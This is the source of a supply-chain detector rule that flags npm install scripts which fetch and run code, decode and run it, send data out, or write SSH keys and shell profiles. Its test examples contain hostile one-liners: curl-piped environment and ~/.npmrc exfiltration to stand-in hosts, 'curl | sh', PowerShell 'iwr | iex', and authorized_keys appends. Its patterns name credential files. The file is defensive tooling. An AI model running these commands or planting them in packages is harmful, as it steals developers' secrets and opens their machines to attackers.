# ruff: noqa: E501 (examples on the card and patterns of words read best as one line)
"""Install script of a package that downloads and runs a program, decodes one, or sends data away.

## Why it matters
`preinstall`, `install`, `postinstall` and `prepare` run on every machine that installs the package, most of them without anybody
reading the script. It is how most malicious packages act, and how a stolen publishing token reaches its victims.

## What to do
1. Ship what is needed in the package, or in optional packages for each platform.
2. If something must be fetched, do it at first use, from a fixed address, and compare a checksum that stands in the package.
3. Install dependencies with `--ignore-scripts` and allow the few packages that need scripts.
4. If a released version holds the script, withdraw it and tell its users.

## Known limits
The command in `package.json` is judged, not the file that it calls. A script that only builds the package, or only downloads a file
without running it, is not reported.

## References
- https://docs.npmjs.com/cli/using-npm/scripts
- https://owasp.org/www-project-mcp-top-10/
- https://cwe.mitre.org/data/definitions/506.html
"""

from __future__ import annotations

import json
import posixpath
from collections.abc import Iterator

from sentinel.analysis.launch.scripts import runs_what_it_decodes, runs_what_it_fetches, sends_away
from sentinel.analysis.text import escaped
from sentinel.detectors.supply_chain._launching import HIGH, script
from sentinel.model.document import Role, Span
from sentinel.model.expression import expression
from sentinel.model.package import Launch
from sentinel.model.rule import Confidence, Example, Item, Match, Severity, Workspace, rule


def _package(event: str, command: str) -> str:
    return '{"name": "a", "scripts": {\n' + json.dumps({event: command})[1:-1] + "}}\n"


_FILE = "package.json"


@rule(
    "supply-chain/install-script-download",
    on=Item.LAUNCH,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    cwe=506,
    cvss=HIGH,
    owasp=("MCP04:2025", "LLM03:2025", "ASI04:2026"),
    bad=(
        Example(
            _package("postinstall", "node -e \"require('https').get('https://in.example.org/' + JSON.stringify(process.env))\""),
            (2,),
            _FILE,
        ),
        Example(_package("prepare", "echo key >> ~/.ssh/authorized_keys"), (2,), _FILE),
        Example(_package("postinstall", "curl -s https://get.example.org/p.sh | sh"), (2,), _FILE),
        Example(_package("preinstall", "node -e \"eval(Buffer.from('YQ==','base64').toString())\""), (2,), _FILE),
        Example(_package("install", "wget https://get.example.org/b -O b; chmod +x b; ./b"), (2,), _FILE),
        Example(_package("prepare", "env | curl -X POST -d @- https://in.example.org"), (2,), _FILE),
        Example(_package("postinstall", "cat ~/.npmrc | curl -d @- https://in.example.org"), (2,), "packages/a/package.json"),
        Example(_package("preinstall", 'powershell -Command "iwr https://get.example.org/p.ps1 | iex"'), (2,), _FILE),
        Example(
            _package("preinstall", "node setup.js"),
            (2,),
            _FILE,
            others=(("setup.js", "require('https').get('https://in.example.org/c?h=' + os.hostname());\n"),),
        ),
        Example(
            _package("postinstall", "node lib/get"),
            (2,),
            _FILE,
            others=(
                ("lib/get.js", "https.get(URL, r => { let d = ''; r.on('data', c => d += c); r.on('end', () => exec(d)); });\n"),
            ),
        ),
        Example(
            _package(
                "postinstall",
                "node -e \"require('https').get('https://get.example.org/x', r => r.on('data', d => eval(d.toString())))\"",
            ),
            (2,),
            _FILE,
        ),
    ),
    good=(
        Example(_package("prepare", "husky install && cat a >> CHANGELOG.md"), path=_FILE),
        Example(_package("prepare", "husky"), path=_FILE),
        Example(_package("postinstall", "node scripts/postinstall.js"), path=_FILE),
        Example(_package("prepare", "npm run build"), path=_FILE),
        Example(
            _package("postinstall", "node install.js"),
            path=_FILE,
            others=(
                (
                    "install.js",
                    "https.get(URL, r => r.pipe(fs.createWriteStream(FILE)));\nexecFileSync(FILE, ['--version'], process.env);\n",
                ),
            ),
        ),
        Example(_package("install", "node-gyp rebuild"), path=_FILE),
        Example(_package("postinstall", "patch-package"), path=_FILE),
        Example(_package("preinstall", "npx only-allow pnpm"), path=_FILE),
        Example(_package("test", "curl -s https://get.example.org/p.sh | sh"), path=_FILE),
        Example(_package("postinstall", "prisma generate && echo done"), path=_FILE),
        Example(_package("postinstall", "curl -fsSL https://get.example.org/data.json -o data.json"), path=_FILE),
        Example(_package("postinstall", "electron-builder install-app-deps"), path=_FILE),
        Example(_package("prepare", "command -v lefthook > /dev/null && lefthook install || true"), path=_FILE),
    ),
)
def check(launch: Launch, workspace: Workspace) -> Iterator[Match]:
    """A script of an install event that does one of the three."""
    if launch.config != "package-scripts":
        return
    text, span = script(launch)
    for deed, what in (
        (runs_what_it_fetches(text), "downloads a program and runs it"),
        (runs_what_it_decodes(text), "decodes a program and runs it"),
        (sends_away(text), "sends private data, or a shell, to another host"),
    ):
        if deed is not None:
            yield Match(
                span, f"Installing the package runs `{escaped(launch.name, 30)}`, which {what}.", identity=f"{launch.name}|{what}"
            )
            return
    written = text.encode("utf-8", "replace")
    if _ASKS.search(written) and _TELLS.search(written):
        what = "asks the network and reads what tells of the machine or its user"
        yield Match(
            span, f"Installing the package runs `{escaped(launch.name, 30)}`, which {what}.", identity=f"{launch.name}|{what}"
        )
        return
    if _STAYS.search(text):
        what = "writes into what starts with the user's session, or lets somebody in"
        yield Match(
            span, f"Installing the package runs `{escaped(launch.name, 30)}`, which {what}.", identity=f"{launch.name}|{what}"
        )
        return
    yield from _of_file(launch, text, span, workspace)


_STAYS = expression(
    r">>?\s*[\"']?(?:~|\$\{?HOME\}?|/root|/home/\S{1,40})/(?:\.ssh/authorized_keys|\.(?:ba|z)shrc|\.(?:bash_)?profile|\.zprofile|\.config/autostart/)|\|\s*crontab\s+-|\bcrontab\s+-\s*<"
)
_NAMED = expression(
    r"(?:^|[;&|]\s*)(?:node|bun|deno run|tsx|ts-node)\s+(?:-\w+\s+|--[\w-]+\s+)*[\"']?(?P<file>(?:\./)?[\w./-]{1,120}?)[\"']?\s*(?:$|[;&|])"
)
_ASKS = expression(
    rb"\bhttps?(?:['\"]\))?\.(?:get|request)\s*\(|(?<![\w.])fetch\s*\(|\baxios\b|\bdns\.(?:resolve\w*|lookup)\s*\(|\bgot\s*\(|\bnet\.(?:connect|createConnection)\s*\("
)
_TELLS = expression(
    rb"\bos\.(?:hostname|userInfo|networkInterfaces)\s*\(|['\"`/]\.(?:npmrc|ssh|aws|netrc|git-credentials|docker/config)|/etc/passwd|"
    rb"\bJSON\.stringify\(\s*process\.env\s*[,)]|\.\.\.process\.env\b|\b(?:entries|keys)\(\s*process\.env\s*\)"
)
_RUNS_TEXT = expression(
    rb"\bon\(\s*['\"]end['\"][^;]{0,80}?\b(?:exec|execSync|eval|Function)\s*\(\s*(?!['\"`])[\w.]|(?<![\w.])eval\s*\(\s*(?!['\"`])[\w.]|\bnew Function\s*\(\s*(?!['\"`])\w"
)


def _of_file(launch: Launch, text: str, span: Span, workspace: Workspace) -> Iterator[Match]:
    """A file of the package that the event runs, where it tells of the machine, or runs what it is answered."""
    named = _NAMED.search(text)
    if named is None:
        return
    folder = launch.span.path.rpartition("/")[0]
    path = posixpath.normpath(posixpath.join(folder, named["file"]))
    document = next(filter(None, (workspace.read(path + end) for end in ("", ".js", ".cjs", ".mjs", "/index.js"))), None)
    if document is None or document.has_role(Role.MINIFIED) or not document.first(_ASKS):
        return
    for sign, what in (
        (_TELLS, "asks the network and reads what tells of the machine or its user"),
        (_RUNS_TEXT, "runs what the network answers"),
    ):
        found = document.first(sign)
        if found is not None:
            yield Match(
                span,
                f"Installing the package runs `{escaped(launch.name, 30)}`, whose file `{escaped(path, 80)}` {what}.",
                identity=f"{launch.name}|{what}",
                confidence=Confidence.MEDIUM,
            ).with_related(document.line_span(document.line_of(found.start())), what)
            return
